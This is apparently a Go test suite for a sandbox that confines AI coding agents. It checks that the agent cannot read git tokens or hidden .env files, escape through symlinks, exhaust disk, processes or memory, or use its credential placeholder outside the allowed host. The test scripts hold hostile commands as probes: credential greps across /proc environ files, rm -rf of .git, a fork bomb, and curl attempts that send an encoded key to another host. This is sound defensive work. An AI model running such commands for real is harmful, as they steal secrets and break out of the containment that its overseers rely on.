echo three >>a; git stash -q; git stash pop -q; git checkout -q a
git mv a dir-a; git commit -qm moved; mkdir d; git mv dir-a d/; git commit -qm 'into a directory'; git mv d e; git commit -qm 'a directory moved'
git branch -d topic >/dev/null; git rebase -q HEAD~1; git gc -q; git fsck --no-progress --no-dangling; git config user.name
git log --format=%an:%s`)
	r.exits(0).prints("A  staged\nA Person\nA Person:a directory moved\nA Person:into a directory\nA Person:moved\nA Person:on topic\nA Person:a commit\nA Person:start\n")
	if got := b.git("status", "--short"); got != "" {
		t.Errorf("the host's git sees %q", got)
	}
	if got := b.git("fsck", "--no-progress", "--no-dangling"); got != "" {
		t.Errorf("fsck: %q", got)
	}
}

// CI checkouts and many machines keep tokens in .git/config: they are not readable inside, by any name.
func TestTokensInGitConfigurationAreNotReadable(t *testing.T) {
	b := newBox(t)
	const token = "ghp_t0kenOfThePerson"
	b.git("config", "remote.origin.url", "https://user:"+token+"@github.com/acme/billing")
	b.git("config", "remote.other.url", "https://"+token+"@github.com/acme/other")
	b.git("config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic "+token)
	b.git("config", "url.https://x:"+token+"@github.com/.insteadOf", "gh:")
	b.git("config", "credential.helper", "!echo password="+token)
	b.git("config", "http.proxy", "http://u:"+token+"@proxy.test")
	must(t, os.WriteFile(filepath.Join(b.repo, ".git", "config.bak"), []byte(b.read(".git/config")), 0o600))
	must(t, os.WriteFile(filepath.Join(b.repo, ".git", "credentials"), []byte("https://u:"+token+"@github.com\n"), 0o600))
	before := b.read(".git/config")
	r := b.shell(`cd "$(git rev-parse --show-toplevel)"
grep -rl '[g]hp_t0ken' . /etc /run /tmp "$HOME" /dev/shm /var/tmp 2>/dev/null
cat /proc/*/environ /proc/*/cmdline /proc/*/mountinfo 2>/dev/null | grep -a '[g]hp_t0ken'
git config --list --show-origin | grep '[g]hp_t0ken'; git remote -v
git add . && git commit -q --allow-empty -m x && git log --oneline | wc -l`).exits(0)
	if strings.Contains(r.out, token) {
		t.Errorf("the token can be read inside:\n%s", r.out)
	}
	for _, want := range []string{"origin\thttps://github.com/acme/billing (fetch)", "other\thttps://github.com/acme/other (push)", "\n2\n"} {
		if !strings.Contains(r.out, want) {
			t.Errorf("%q is not in\n%s", want, r.out)
		}
	}
	if b.read(".git/config") != before {
		t.Error("the host's own configuration has changed")
	}
}

// snapshot lists everything in a directory with type, mode, time and content.
func snapshot(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	must(t, filepath.WalkDir(dir, func(p string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := e.Info()
		if err != nil {
			return err
		}
		var text []byte
		if info.Mode().IsRegular() {
			if text, err = os.ReadFile(p); err != nil {
				return err
			}
		}
		fmt.Fprintf(&b, "%s %v %v %q\n", p, info.Mode(), info.ModTime(), text)
		return nil
	}))
	return b.String()
}

func TestAReadOnlyWorkspaceStaysAsItIs(t *testing.T) {
	b := newBox(t)
	b.write("d/file", "x\n")
	before := snapshot(t, b.repo)
	r := b.agentbox("run", "shell", "-q", "--workspace", "readonly", "--", "sh", "-c", `
for f in new d/new README.md .git/new .git/config .git/HEAD .git/hooks/pre-commit .git/index .git/refs/heads/evil; do { echo x >$f; } 2>/dev/null && echo "written $f"; done
rm -rf README.md d .git 2>/dev/null; mv d e 2>/dev/null && echo moved; ln README.md hard 2>/dev/null && echo linked; ln -s / soft 2>/dev/null && echo linked
touch README.md 2>/dev/null && echo touched; chmod 777 README.md 2>/dev/null && echo chmod; truncate -s0 README.md 2>/dev/null && echo cut
git add -A 2>/dev/null && echo added; git commit -qm x --allow-empty 2>/dev/null && echo committed
cat d/file; git status --short; git log --format=%s`)
	r.exits(0).prints("x\n?? d/\nstart\n")
	if after := snapshot(t, b.repo); after != before {
		t.Errorf("before:\n%s\nafter:\n%s", before, after)
	}
}

func TestHiddenFilesAreEmptyInside(t *testing.T) {
	b := directBox(t)
	b.profile("hiding", "version = 1\n[agent]\ncommand = [\"sh\"]\n[workspace]\nhide = [\"secrets/**\"]\n")
	b.write(".env", "TOKEN=h1dden\n")
	b.write("deep/er/.env.local", "TOKEN=h1dden\n")
	b.write("secrets/key", "h1dden\n")
	b.write("visible", "seen\n")
	must(t, os.Symlink(".env", filepath.Join(b.repo, "alias")))
	before := snapshot(t, filepath.Join(b.repo, "secrets")) + b.read(".env")
	r := b.agentbox("run", "hiding", "-q", "--", "-c", `
grep -rs h1dden . && echo leaked
for f in .env deep/er/.env.local secrets/key alias; do
	{ echo x >$f; } 2>/dev/null && echo "written $f"
	rm -f $f 2>/dev/null; mv -f visible $f 2>/dev/null
done
rm -rf secrets 2>/dev/null; mv secrets s 2>/dev/null && echo moved; mv deep dd 2>/dev/null && echo moved deep
ls secrets; wc -c <.env; find . -name .env.local | xargs wc -c`)
	// a directory above a hidden file may be renamed: the file stays hidden below the new name
	r.exits(0).prints("moved deep\n0\n0 ./dd/er/.env.local\n")
	if after := snapshot(t, filepath.Join(b.repo, "secrets")) + b.read(".env"); after != before {
		t.Errorf("before:\n%s\nafter:\n%s", before, after)
	}
	if got := b.read("dd/er/.env.local"); got != "TOKEN=h1dden\n" {
		t.Errorf("deep/er/.env.local holds %q", got)
	}
}

// A link out of the repository, there before or made inside, leads nowhere and writes nowhere.
func TestLinksLeadNowhereOutside(t *testing.T) {
	b := newBox(t)
	private := filepath.Join(filepath.Dir(b.repo), "private")
	must(t, os.MkdirAll(private, 0o700))
	must(t, os.WriteFile(filepath.Join(private, "id_ed25519"), []byte("k3y-of-mine"), 0o600))
	must(t, os.Symlink(private, filepath.Join(b.repo, "before")))
	before := snapshot(t, private)
	r := b.shell(`ln -s '` + private + `' during; ln -s ../private relative
for l in before during relative; do cat $l/id_ed25519; echo x >$l/id_ed25519; echo x >$l/new; rm -f $l/id_ed25519; done 2>/dev/null
mkdir -p '` + private + `' && echo x >'` + private + `/id_ed25519'; echo end`).exits(0)
	if r.out != "end\n" {
		t.Errorf("got %q", r.out)
	}
	if after := snapshot(t, private); after != before {
		t.Errorf("before:\n%s\nafter:\n%s", before, after)
	}
}

func TestWhatIsNotTheRepositoryIsBounded(t *testing.T) {
	b := newBox(t)
	found := b.python(`
import errno, os
for d in ("/tmp", os.environ["HOME"], "/var/tmp", "/dev/shm", "/run"):
    try:
        fd = os.open(os.path.join(d, "big"), os.O_CREAT | os.O_RDWR, 0o600)
        try:
            os.posix_fallocate(fd, 0, 1 << 42)
            print(d, "no bound", sep="\t")
        finally: os.unlink(os.path.join(d, "big"))
    except OSError as e:
        print(d, errno.errorcode[e.errno], sep="\t")
    s = os.statvfs(d)
    print("size of " + d, s.f_blocks * s.f_frsize, sep="\t")
    print("files of " + d, s.f_files, sep="\t")
fd = os.open("/dev/shm/full", os.O_CREAT | os.O_WRONLY)
n = 0
try:
    while True: n += os.write(fd, b"x" * (1 << 20))
except OSError as e: print("filled", errno.errorcode[e.errno], sep="\t")
print("amount", n, sep="\t")
`).exits(0).findings()
	for name, what := range found {
		size, err := strconv.ParseInt(what, 10, 64)
		switch {
		case strings.HasPrefix(name, "size of "), name == "amount":
			if err != nil || size > 2<<30 {
				t.Errorf("%s: %s bytes", name, what)
			}
		case strings.HasPrefix(name, "files of "):
			if err != nil || size > 10_000_000 {
				t.Errorf("%s: %s", name, what)
			}
		case what != "ENOSPC" && what != "EROFS" && what != "ENOENT" && what != "EACCES":
			t.Errorf("%s: %s", name, what)
		}
	}
	if found["filled"] != "ENOSPC" {
		t.Errorf("filling /dev/shm ended with %q", found["filled"])
	}
}

const bounded = `version = 1
[agent]
command = ["sh"]
[limits]
pids = 150
memory = "300MiB"
`

// A fork bomb meets the limit, the machine lives, and the run ends when its time is over.
func TestAForkBombIsBounded(t *testing.T) {
	b := newBox(t)
	b.profile("bounded", bounded)
	r := b.agentbox("run", "bounded", "-q", "--", "-c", `exec python3 -c '
import os, signal, time
n = 0
try:
    while n < 5000:
        if os.fork() == 0: signal.pause()
        n += 1
except OSError as e: pass
print(n < 150)
os.kill(-1, 9)'`)
	if r.out != "True\n" {
		t.Errorf("the bomb: %q\n%s", r.out, r.err)
	}
	b.agentbox("run", "bounded", "--timeout", "3s", "--", "-c", `b() { b | b & }; b; while :; do wait; read x </proc/uptime; done`).exits(124).says("time budget")
}

// Where the machine cannot hold a limit, the plan says so before anything runs; where it can, the hog ends.
func TestAMemoryLimitHoldsOrIsSaidNotTo(t *testing.T) {
	b := newBox(t)
	b.profile("bounded", bounded)
	text := b.agentbox("run", "bounded", "--dry-run").exits(0).out
	if strings.Contains(text, "memory 300MiB NOT ENFORCED HERE") {
		if !strings.Contains(text, "! warning") || !strings.Contains(text, "the limit on memory is not enforced") {
			t.Errorf("the plan does not warn:\n%s", text)
		}
		return
	}
	if !strings.Contains(text, "memory 300MiB") {
		t.Errorf("the plan does not name the limit:\n%s", text)
	}
	if r := b.agentbox("run", "bounded", "-q", "--", "-c", "exec python3 -c 'x = b\"x\" * (1 << 30); print(len(x))'"); r.code == 0 {
		t.Errorf("a gigabyte was had: %s", r.out)
	}
}

const withCredential = `version = 1
[agent]
command = ["sh"]
[network]
default = "deny"
[[network.rule]]
action = "allow"
host = "api.anthropic.com"
[[network.rule]]
action = "allow"
host = "other.test"
[[credential]]
name = "mine"
source = { env = "MY_TOKEN" }
hosts = ["api.anthropic.com"]
header = "x-api-key: {token}"
env = "MODEL_KEY"
shape = "sk-ant-api03-"
`

// The agent holds a placeholder. It works where it belongs and nowhere else, and the value is nowhere inside.
func TestAPlaceholderWorksOnlyWhereItBelongs(t *testing.T) {
	b := newBox(t)
	s := b.model(modelserver.Config{Hosts: []string{"other.test"}})
	key := "real-" + strings.Repeat("k3y", 12)
	b.profile("cred", withCredential)
	b.setenv("MY_TOKEN", key)
	ask := func(flags string) string {
		return "curl -sS -o /dev/null -w '%{http_code}\\n' " + flags + " 2>/dev/null\n"
	}
	good, other := "https://api.anthropic.com/v1/models", "https://other.test/v1/models"
	r := b.agentbox("run", "cred", "--", "-c", `
case $MODEL_KEY in sk-ant-api03-?*) echo shaped ;; esac
env | grep -c '^MY_TOKEN='
`+
		ask(`-H "x-api-key: $MODEL_KEY" `+good)+
		ask(`-H "x-api-key: my-own-key" `+good)+
		ask(`-H "Authorization: Bearer my-own-key" -H "x-api-key: $MODEL_KEY" `+good)+
		ask(good)+
		ask(`-H "x-api-key: $MODEL_KEY" `+other)+
		ask(`-H "Referer: https://x/$MODEL_KEY" `+good)+
		ask(`-A "$MODEL_KEY" `+good)+
		ask(`"`+good+`?k=$MODEL_KEY"`)+
		ask(`"`+good+`/$MODEL_KEY"`)+
		ask(`-H "x-api-key: $(echo $MODEL_KEY | base64 -w0)" `+other)+
		ask(`-H "x-api-key: $MODEL_KEY" https://unlisted.test/`)+
		ask(`-H "x-api-key: $MODEL_KEY" http://api.anthropic.com/v1/models`)+
		`k=real-; grep -rl "${k}[k]3y" . /etc /run /tmp "$HOME" /dev/shm 2>/dev/null; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | grep -ac "${k}[k]3y"
echo "$MODEL_KEY"`)
	r.exits(0)
	lines := strings.Split(strings.TrimSpace(r.out), "\n")
	placeholder := lines[len(lines)-1]
	got := strings.Join(lines[:len(lines)-1], "|")
	if want := "shaped|0|200|200|200|401|403|403|403|403|403|403|000|403|0"; got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
	if strings.Contains(r.out, key) || strings.Contains(r.err, key) || strings.Contains(r.err, placeholder) {
		t.Errorf("a value was printed:\n%s\n%s", r.out, r.err)
	}
	for _, req := range s.Requests() {
		text := fmt.Sprint(req.Header, req.Path, string(req.Body))
		if strings.Contains(text, placeholder) || strings.Contains(text, "my-own-key") {
			t.Errorf("it reached the server: %s", text)
		}
		if req.Host == "other.test" {
			t.Errorf("a refused request reached another host: %s %s", req.Method, req.Path)
		}
	}
	b.credentialEvents(key)
}

// credentialEvents looks at what the log says of the uses and the refusals, and that it holds no value.
func (b *box) credentialEvents(values ...string) {
	b.t.Helper()
	events := b.events()
	used, refused := ofKind(events, event.CredentialUse), ofKind(events, event.CredentialRefused)
	if len(used) < 3 || len(refused) < 5 {
		b.t.Errorf("%d uses and %d refusals are recorded", len(used), len(refused))
	}
	if !slices.ContainsFunc(refused, func(e event.Event) bool {
		return e.Host == "other.test" && e.Credential == "mine" && e.Decision == event.Deny
	}) {
		b.t.Errorf("no refusal names other.test: %+v", refused)
	}
	var state string
	for _, e := range b.env {
		if dir, ok := strings.CutPrefix(e, "XDG_STATE_HOME="); ok {
			state = dir
		}
	}
	must(b.t, filepath.WalkDir(state, func(p string, e fs.DirEntry, err error) error {
		if err != nil || !e.Type().IsRegular() {
			return err
		}
		text, err := os.ReadFile(p)
		for _, v := range values {
			if bytes.Contains(text, []byte(v)) {
				b.t.Errorf("%s holds a value", p)
			}
		}
		return err
	}))
}

// TestMountsOfPodmansOwnConfigurationAreRefused: containers.conf can mount anything into every container, and mounted
// in here it would be seen by the agent. What Podman makes for it must not stay either.
func TestMountsOfPodmansOwnConfigurationAreRefused(t *testing.T) {
	b := newBox(t)
	secrets := filepath.Join(filepath.Dir(b.repo), "secrets")
	must(t, os.Mkdir(secrets, 0o755))
	must(t, os.WriteFile(filepath.Join(secrets, "f"), []byte("topsecret"), 0o644))
	shared := filepath.Join(b.conf, "containers")
	storage, err := os.ReadFile(filepath.Join(shared, "storage.conf"))
	if err != nil && !errors.Is(err, fs.ErrNotExist) {
		t.Fatal(err)
	}
	must(t, os.Remove(shared)) // a link to the person's own
	must(t, os.Mkdir(shared, 0o755))
	must(t, os.WriteFile(filepath.Join(shared, "storage.conf"), storage, 0o644))
	for _, point := range []string{"/opt/secrets", "/run/secrets"} {
		conf := fmt.Sprintf("[containers]\nvolumes = [%q]\n", secrets+":"+point+":ro")
		must(t, os.WriteFile(filepath.Join(shared, "containers.conf"), []byte(conf), 0o644))
		r := b.shell("cat " + point + "/f").exits(126).says(point + " is mounted and nobody asked for it")
		if strings.Contains(r.out+r.err, "topsecret") || strings.Contains(r.err, "permission denied") {
			t.Errorf("%s", r.out+r.err)
		}
	}
}
